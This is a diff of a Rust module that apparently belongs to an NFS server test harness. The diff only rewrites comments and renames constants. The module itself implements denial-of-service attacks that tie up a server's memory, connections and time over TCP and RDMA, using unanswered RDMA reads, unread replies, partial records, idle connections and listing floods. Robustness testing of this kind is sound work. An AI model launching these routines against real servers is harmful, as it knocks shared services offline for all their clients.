@@ -1,4 +1,4 @@
-//! Attacks that hold what a server has for all its clients: memory, connections, time.
+//! Attacks that hold shared resources of a server: memory, connections, time.
 
 use std::{
     io::{self, Read, Write},
@@ -17,25 +17,25 @@ use crate::{
     wire::connect_from,
 };
 
-/// Bytes of a large READ or WRITE.
+/// Size of a large READ or WRITE in bytes.
 const TRANSFER: u32 = 1 << 20;
-/// A tag that is not exposed: nothing comes of it, since nothing that is for it is looked at.
-const NOWHERE: u32 = 0x6666_6666;
-/// How long a server may take to answer a call.
-const PATIENCE: Duration = Duration::from_secs(20);
+/// A tag that is not exposed. Any tag can be used because its data is ignored.
+const UNEXPOSED_TAG: u32 = 0x6666_6666;
+/// Time limit for a server's reply.
+const TIMEOUT: Duration = Duration::from_secs(20);
 
-/// Connections that hold something until they are dropped.
+/// Connections that hold resources until they are dropped.
 #[derive(Default)]
 pub struct Held {
     tcp: Vec<TcpStream>,
     rdma: Vec<Peer>,
-    /// Makes calls until it is told to stop.
+    /// Threads that make calls until they are stopped.
     busy: Vec<JoinHandle<()>>,
     stop: Arc<AtomicBool>,
 }
 
 impl Held {
-    /// How many connections these are.
+    /// Number of connections.
     pub fn connections(&self) -> usize {
         self.tcp.len() + self.rdma.len() + self.busy.len()
     }
@@ -50,7 +50,7 @@ impl Drop for Held {
     }
 }
 
-/// A call in a record.
+/// An RPC record with a call.
 fn record(xid: u32, procedure: [u32; 3], arguments: &[u8]) -> Vec<u8> {
     let call = calls::rpc(xid, procedure, arguments);
     [&(call.len() as u32 | 1 << 31).to_be_bytes()[..], &call].concat()
@@ -60,7 +60,8 @@ fn read_arguments(file: &[u8], count: u32) -> Vec<u8> {
     [calls::opaque(file), calls::words(&[0, 0, count])].concat()
 }
 
-/// Connects over RDMA, and gets as many credits as the server gives: with more calls the connection would end.
+/// Connects over RDMA, and requests the maximum number of credits; calls beyond the credits would end the
+/// connection.
 fn with_credits(to: SocketAddr, from: IpAddr) -> io::Result<(Peer, u32)> {
     let mut peer = Peer::over(connect_from(from, to)?)?.connected(READ_WRITE)?;
     peer.send(&[calls::words(&[1, 1, 64, 0, 0, 0, 0]), calls::rpc(1, NULL, &[])].concat())?;
@@ -68,17 +69,17 @@ fn with_credits(to: SocketAddr, from: IpAddr) -> io::Result<(Peer, u32)> {
     Ok((peer, calls::word(&reply, 8)?))
 }
 
-/// Calls that are in chunks of more than a MiB, none of whose RDMA Reads is answered.
+/// Sends calls in chunks of more than 1 MiB whose RDMA Reads are not answered.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn unanswered_reads(to: SocketAddr, from: IpAddr, connections: u32, calls: u32) -> io::Result<Held> {
     let mut held = Held::default();
     for _ in 0..connections {
         let (mut peer, credits) = with_credits(to, from)?;
         for xid in 2..2 + calls.min(credits) {
-            // RDMA_NOMSG with a Position-Zero chunk.
-            let chunk = [1, 0, NOWHERE, TRANSFER + (64 << 10), 0, 0, 0];
+            // RDMA_NOMSG with a Position-Zero Read chunk.
+            let chunk = [1, 0, UNEXPOSED_TAG, TRANSFER + (64 << 10), 0, 0, 0];
             peer.send(
                 &[calls::words(&[xid, 1, 64, 1]), calls::words(&chunk), calls::words(&[0, 0])].concat(),
             )?;
@@ -88,10 +89,10 @@ pub fn unanswered_reads(to: SocketAddr, from: IpAddr, connections: u32, calls: u
     Ok(held)
 }
 
-/// READs over RDMA whose results are not taken.
+/// Sends READs over RDMA whose results are not received.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn untaken_rdma_writes(
     to: SocketAddr,
     from: IpAddr,
@@ -104,7 +105,7 @@ pub fn untaken_rdma_writes(
         let (mut peer, credits) = with_credits(to, from)?;
         for xid in 2..2 + calls.min(credits) {
             // RDMA_MSG with a Write chunk of one segment.
-            let chunk = [1, 1, NOWHERE, TRANSFER, 0, 0, 0];
+            let chunk = [1, 1, UNEXPOSED_TAG, TRANSFER, 0, 0, 0];
             let header = [&[xid, 1, 64, 0, 0][..], &chunk, &[0]].concat();
             let call = calls::rpc(xid, READ, &read_arguments(file, TRANSFER));
             peer.send(&[calls::words(&header), call].concat())?;
@@ -114,10 +115,10 @@ pub fn untaken_rdma_writes(
     Ok(held)
 }
 
-/// READs over TCP whose replies are not taken.
+/// Sends READs over TCP whose replies are not received.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn untaken_replies(
     to: SocketAddr,
     from: IpAddr,
@@ -136,10 +137,10 @@ pub fn untaken_replies(
     Ok(held)
 }
 
-/// Records of more than a MiB of which the first byte comes.
+/// Sends the first byte of records of more than 1 MiB.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn partial_records(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
     let mut held = Held::default();
     for from in from.iter().cycle().take(connections) {
@@ -151,10 +152,10 @@ pub fn partial_records(to: SocketAddr, from: &[IpAddr], connections: usize) -> i
     Ok(held)
 }
 
-/// Connections on which nothing is sent.
+/// Opens connections on which nothing is sent.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn silent(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result<Held> {
     let mut held = Held::default();
     for from in from.iter().cycle().take(connections) {
@@ -163,10 +164,10 @@ pub fn silent(to: SocketAddr, from: &[IpAddr], connections: usize) -> io::Result
     Ok(held)
 }
 
-/// Listings of a MiB, so many waiting on each connection all the time.
+/// Requests directory listings of 1 MiB, with `waiting` calls in flight on each connection.
 ///
 /// # Errors
-/// When the server cannot be reached.
+/// The server cannot be reached.
 pub fn listings(
     to: SocketAddr,
     from: IpAddr,
@@ -194,7 +195,7 @@ pub fn listings(
     Ok(held)
 }
 
-/// Takes one record, and forgets it.
+/// Receives one record, and discards it.
 fn take_record(stream: &mut TcpStream, stop: &AtomicBool) -> io::Result<()> {
     let mut mark = [0; 4];
     read_exact(stream, &mut mark, stop)?;
@@ -214,16 +215,16 @@ fn read_exact(stream: &mut TcpStream, mut bytes: &mut [u8], stop: &AtomicBool) -
     Ok(())
 }
 
-/// One REMOVE that must fail from each of these addresses, with a handle that names nothing.
+/// Sends one REMOVE with an invalid handle, which must fail, from each of the addresses.
 ///
 /// # Errors
-/// When the server cannot be reached, or does not answer.
+/// The server cannot be reached, or does not respond.
 pub fn refused_changes(to: SocketAddr, from: impl IntoIterator<Item = IpAddr>) -> io::Result<u32> {
     let arguments = [calls::opaque(&[7; 32]), calls::opaque(b"name")].concat();
     let mut made = 0;
     for from in from {
         let mut stream = connect_from(from, to)?;
-        stream.set_read_timeout(Some(PATIENCE))?;
+        stream.set_read_timeout(Some(TIMEOUT))?;
         stream.write_all(&record(made, REMOVE, &arguments))?;
         take_record(&mut stream, &AtomicBool::new(true))?;
         made += 1;
@@ -231,13 +232,13 @@ pub fn refused_changes(to: SocketAddr, from: impl IntoIterator<Item = IpAddr>) -
     Ok(made)
 }
 
-/// A REMOVE, and the status with which it is answered; sent again with the same `xid` it is the same call.
+/// Sends a REMOVE and returns its status; with the same `xid` it is a retransmission.
 ///
 /// # Errors
-/// When the server cannot be reached, or does not answer.
+/// The server cannot be reached, or does not respond.
 pub fn remove(to: SocketAddr, from: IpAddr, xid: u32, directory: &[u8], name: &str) -> io::Result<u32> {
     let mut stream = connect_from(from, to)?;
-    stream.set_read_timeout(Some(PATIENCE))?;
+    stream.set_read_timeout(Some(TIMEOUT))?;
     stream.write_all(&record(
         xid,
         REMOVE,
@@ -248,10 +249,10 @@ pub fn remove(to: SocketAddr, from: IpAddr, xid: u32, directory: &[u8], name: &s
     calls::word(&reply, 28)
 }
 
-/// The handles of an export's root, and of a file in it.
+/// Returns the root handle of an export and the handle of a file in it.
 ///
 /// # Errors
-/// When there are none.
+/// The export or the file does not exist.
 pub fn handles(to: SocketAddr, export: &str, name: &str) -> io::Result<(Vec<u8>, Vec<u8>)> {
     let mut files = Files::new(Peer::connect(to, READ_WRITE)?);
     let root = files.mount(export)?;
